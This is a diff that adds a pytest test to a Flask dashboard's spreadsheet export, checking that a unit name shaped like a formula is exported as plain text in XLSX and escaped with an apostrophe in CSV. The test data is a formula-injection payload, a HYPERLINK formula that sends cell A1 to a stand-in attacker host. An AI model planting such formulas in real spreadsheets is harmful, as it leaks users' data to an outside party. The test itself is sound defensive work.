@@ -37,3 +37,21 @@ def test_exports_of_names_a_spreadsheet_cell_cannot_hold(client: FlaskClient, ru
     text = client.get(f"/dashboard/export.csv?{QUERY}").data.decode("utf-8-sig")
     table = list(csv.reader(io.StringIO(text)))
     assert {row[1]: row[2] for row in table[1:4]} == NAMES
+
+
+def test_a_name_that_looks_like_a_formula_is_shown_not_run(client: FlaskClient, run: Any) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+
+    def rename() -> None:
+        unit = unit_by_code(TAOYUAN)
+        assert unit is not None
+        unit.name = formula
+        db.session.commit()
+
+    run(rename)
+    login(client, "leader")
+    book = load_workbook(io.BytesIO(client.get(f"/dashboard/export.xlsx?{QUERY}").data))
+    cells = {row[1].value: row[2] for row in book.active.iter_rows(min_row=2, max_row=4)}
+    assert cells[TAOYUAN].value == formula and cells[TAOYUAN].data_type == "s"  # text, as written; no formula
+    text = client.get(f"/dashboard/export.csv?{QUERY}").data.decode("utf-8-sig")
+    assert {row[1]: row[2] for row in list(csv.reader(io.StringIO(text)))[1:4]}[TAOYUAN] == "'" + formula
